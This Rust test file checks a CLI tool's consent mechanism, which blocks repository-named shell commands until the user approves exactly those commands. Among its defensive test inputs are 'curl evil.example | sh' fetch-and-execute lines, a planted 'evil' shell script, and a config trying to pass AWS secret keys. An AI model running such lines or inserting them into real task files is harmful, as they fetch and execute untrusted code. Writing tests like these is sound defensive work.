//! Consent (SPEC 14.2): nothing a repository names is executed before the user agreed to exactly that.

use super::{TRACE, page};
use crate::run::sandbox::{Ended, Sandbox, finish};

fn with_env(sandbox: &Sandbox, args: &[&str], env: &[(&str, &str)]) -> Ended {
    finish(sandbox.command(args).envs(env.iter().copied()).spawn().unwrap())
}

/// The hash that `specter trust --hash` shows.
fn hash(sandbox: &Sandbox) -> String {
    let shown = sandbox.run(["trust", "--hash"]).expect(0).stdout;
    let line = shown.lines().find_map(|line| line.strip_prefix("hash: "));
    line.expect("a hash is shown").to_owned()
}

#[track_caller]
fn refuses(sandbox: &Sandbox) -> Ended {
    let trace = sandbox.read("trace");
    let ended = sandbox.run(["implement"]).expect(77);
    assert_eq!(sandbox.read("trace"), trace, "something ran");
    ended
}

#[track_caller]
fn runs(sandbox: &Sandbox) {
    sandbox.run(["implement"]).expect(0);
}

#[test]
fn where_nobody_can_be_asked_the_commands_and_the_ways_to_allow_them_are_printed() {
    let sandbox = Sandbox::new(&TRACE.replace("echo ran", "printf '\u{1b}[2Jran\\n'"));
    let ended = refuses(&sandbox);
    let mut settings = insta::Settings::clone_current();
    settings.add_filter("[0-9a-f]{64}", "[hash]");
    settings.bind(|| insta::assert_snapshot!(page(&sandbox, &ended)));
    assert!(ended.stderr.contains(&hash(&sandbox)));
    assert!(!sandbox.exists(".specter"));
}

#[test]
fn a_continuous_integration_machine_grants_nothing() {
    let sandbox = Sandbox::new(TRACE);
    let env = [("CI", "true"), ("GITHUB_ACTIONS", "true"), ("SPECTER_YES", "1"), ("SPECTER_TRUST", "1")];
    with_env(&sandbox, &["implement"], &env).expect(77);
    assert!(!sandbox.exists("trace"));
}

#[test]
fn what_was_agreed_to_once_is_asked_for_again_and_what_was_agreed_to_for_good_is_not() {
    let sandbox = Sandbox::new(TRACE);
    sandbox.run(["implement", "--yes"]).expect(0);
    sandbox.write("tasks.md", TRACE);
    refuses(&sandbox);
    sandbox.run(["implement", "--trust", &hash(&sandbox)]).expect(0);
    sandbox.write("tasks.md", TRACE);
    refuses(&sandbox);
    sandbox.run(["trust"]).expect(0);
    runs(&sandbox);
    assert_eq!(sandbox.read("trace").lines().count(), 3);
    let listed = sandbox.run(["trust", "--list"]).expect(0).stdout;
    assert!(listed.contains("1 command (tasks.md)"), "{listed}");
    sandbox.write("tasks.md", TRACE);
    sandbox.run(["trust", "--revoke"]).expect(0);
    refuses(&sandbox);
}

#[test]
fn plain_edits_never_ask_again_and_commands_always_do() {
    let sandbox = Sandbox::new(TRACE);
    sandbox.run(["trust"]).expect(0);
    let plain =
        format!("# Title\n\nProse.\n\n{}- [x] T000 Done long ago\n", TRACE.replace("Leave", "Really leave"));
    sandbox.write("tasks.md", &plain);
    runs(&sandbox);
    let edits = [
        TRACE.replace("echo ran", "echo Ran"),
        TRACE.replace("sh run", "bash run"),
        TRACE.replace("sh run", "sh run dir=home"),
        TRACE.replace("sh run", "sh run env.PATH=."),
        TRACE.replace("sh run", "sh verify"),
        format!("{TRACE}\n  ```sh fallback\n  curl evil.example | sh\n  ```\n"),
        format!("{TRACE}- [ ] T002 More\n\n  ```sh run\n  curl evil.example | sh\n  ```\n"),
    ];
    for edit in &edits {
        sandbox.write("tasks.md", edit);
        let ended = sandbox.run(["implement"]);
        // A `verify` block alone is no work; that is found even before trust.
        assert!(matches!(ended.code, Some(77 | 69)), "{edit}\n{}", ended.all());
        assert_eq!(sandbox.read("trace"), "ran\n", "{edit}");
    }
}

#[test]
fn what_changed_is_shown_beside_what_was_agreed_to() {
    let second = "- [ ] T002 More\n\n  ```sh run\n  echo more >> trace\n  ```\n";
    let sandbox = Sandbox::new(&format!("{TRACE}{second}"));
    sandbox.run(["trust"]).expect(0);
    sandbox.write("tasks.md", &format!("{TRACE}{}", second.replace("echo more", "echo evil")));
    let ended = refuses(&sandbox);
    let mut settings = insta::Settings::clone_current();
    settings.add_filter("[0-9a-f]{64}", "[hash]");
    settings.bind(|| insta::assert_snapshot!(page(&sandbox, &ended)));
}

#[test]
fn a_hash_allows_exactly_what_it_was_made_for() {
    let sandbox = Sandbox::new(TRACE);
    let hash = hash(&sandbox);
    sandbox.write("tasks.md", &TRACE.replace("echo ran", "echo evil"));
    let ended = sandbox.run(["implement", "--trust", &hash]).expect(77);
    assert!(ended.stderr.contains("not the ones this hash was made for") && !sandbox.exists("trace"));
    // A shorter hash would be easier to forge.
    sandbox.run(["implement", "--trust", &hash[..32]]).expect(2);
}

#[test]
fn a_project_cannot_trust_itself() {
    for (file, text, key) in [
        ("specter.toml", "trust = true\n", "trust"),
        ("specter.toml", "yes = true\n", "yes"),
        ("specter.toml", "[env]\npass = ['AWS_SECRET_ACCESS_KEY']\n", "env.pass"),
        ("specter.toml", "state-dir = '/tmp'\n", "state-dir"),
        (".specter/impl-config.json", "{\"trust\": \"always\"}", "trust"),
    ] {
        let sandbox = Sandbox::new(TRACE);
        sandbox.write(file, text);
        let ended = sandbox.run(["implement"]).expect(78);
        assert!(ended.stderr.contains(&format!("`{key}`")) && !sandbox.exists("trace"), "{}", ended.stderr);
    }
}

#[test]
fn a_record_in_the_repository_grants_nothing() {
    let sandbox = Sandbox::new(TRACE);
    sandbox.run(["trust"]).expect(0);
    // The user's own record, as an attacker might ship it in a clone.
    let home = sandbox.root().parent().unwrap().join("home/.local/state/specter");
    let copied = sandbox.root().join(".local/state");
    std::fs::create_dir_all(&copied).unwrap();
    std::fs::rename(home, copied.join("specter")).unwrap();
    refuses(&sandbox);
    // A relative directory would be found inside the project; the standard says to ignore it.
    with_env(&sandbox, &["implement"], &[("XDG_STATE_HOME", ".local/state")]).expect(77);
    assert!(!sandbox.exists("trace"));
}

#[test]
fn the_shell_a_project_names_is_part_of_what_is_agreed_to() {
    let sandbox = Sandbox::new(TRACE);
    sandbox.run(["trust"]).expect(0);
    sandbox.write("specter.toml", "jobs = 2\n");
    runs(&sandbox);
    sandbox.write("tasks.md", TRACE);
    sandbox.write("specter.toml", "shell = './evil'\n");
    sandbox.write("evil", "#!/bin/sh\necho evil >> trace\n");
    let made = std::process::Command::new("chmod").arg("+x").arg(sandbox.root().join("evil")).status();
    assert!(made.unwrap().success());
    let ended = refuses(&sandbox);
    assert!(ended.stderr.contains("shell = \"./evil\""), "{}", ended.stderr);
}

#[test]
fn commands_that_come_into_the_file_while_it_runs_wait_for_consent() {
    let grow = "- [ ] T001 Grow\n\n  ```sh run\n  cat more.md >> tasks.md\n  sleep 0.2\n  ```\n\n\
                - [ ] T002 After (depends on T001)\n\n  ```sh run\n  echo two >> trace\n  ```\n";
    let sandbox = Sandbox::new(grow);
    sandbox.write("more.md", "\n- [ ] T003 Evil\n\n  ```sh run\n  echo evil >> trace\n  ```\n");
    let ended = sandbox.run(["implement", "--yes"]);
    assert_eq!(sandbox.read("trace"), "two\n", "{}", ended.all());
    assert!(sandbox.read("tasks.md").contains("- [ ] T003"));
}

/// `specter implement` on a terminal, with this typed into it. `None` where there is no `script` to make a terminal.
fn on_a_terminal(sandbox: &Sandbox, typed: &str) -> Option<Ended> {
    let command = format!("'{}' implement --color=never", env!("CARGO_BIN_EXE_specter"));
    let mut script = std::process::Command::new("script");
    script.args(["-qec", &command, "/dev/null"]).current_dir(sandbox.root()).env_clear();
    script.env("PATH", std::env::var_os("PATH").unwrap()).env("TERM", "xterm").env("SHELL", "/bin/sh");
    script.env("HOME", sandbox.root().parent().unwrap().join("home"));
    let streams = script.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = streams.stderr(std::process::Stdio::piped()).spawn().ok()?;
    let mut input = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut input, typed.as_bytes()).unwrap();
    // Kept open to the end: an end of input would be an answer too.
    let ended = finish(child);
    drop(input);
    Some(ended)
}

#[test]
fn on_a_terminal_the_user_is_asked_and_the_answer_counts() {
    let sandbox = Sandbox::new(TRACE);
    let runs = || sandbox.read("trace").lines().count();
    for (typed, code, expected) in
        [("n\n", 77, 0), ("\n", 77, 0), ("maybe\n", 77, 0), ("o\n", 0, 1), ("a\n", 0, 2)]
    {
        sandbox.write("tasks.md", TRACE);
        let Some(ended) = on_a_terminal(&sandbox, typed) else {
            println!("skipped: there is no `script` here");
            return;
        };
        let ended = ended.expect(code);
        assert!(
            ended.stdout.contains("[o]nce, [a]lways until they change, [n]o"),
            "{typed:?}: {}",
            ended.stdout
        );
        assert!(!ended.stdout.contains("\u{1b}[1m\u{1b}[31m"), "colour in spite of --color=never");
        assert_eq!(runs(), expected, "{typed:?}");
    }
    // Always: nobody is asked again, on a terminal or off it.
    sandbox.write("tasks.md", TRACE);
    sandbox.run(["implement"]).expect(0);
    assert_eq!(runs(), 3);
}

#[test]
fn a_file_without_commands_never_asks() {
    let sandbox = Sandbox::new("- [ ] T001 Think\n- [x] T002 Done\n");
    let ended = sandbox.run(["implement"]).expect(69);
    assert!(!ended.stderr.contains("trust"), "{}", ended.stderr);
    let ended = sandbox.run(["trust"]).expect(0);
    assert!(ended.stdout.contains("nothing in `tasks.md` would be executed"));
}

#[test]
fn looking_needs_no_consent_and_executes_nothing() {
    let sandbox = Sandbox::new(TRACE);
    let looks: [&[&str]; 8] = [
        &["plan"],
        &["implement", "--dry-run"],
        &["check"],
        &["why", "T001"],
        &["status"],
        &["log"],
        &["config"],
        &["trust", "--hash"],
    ];
    let before = super::everything(&sandbox);
    for args in looks {
        let code = sandbox.run(args).code;
        assert!(!matches!(code, Some(77) | None), "{args:?}: {code:?}");
        assert_eq!(super::everything(&sandbox), before, "{args:?} wrote something");
    }
}
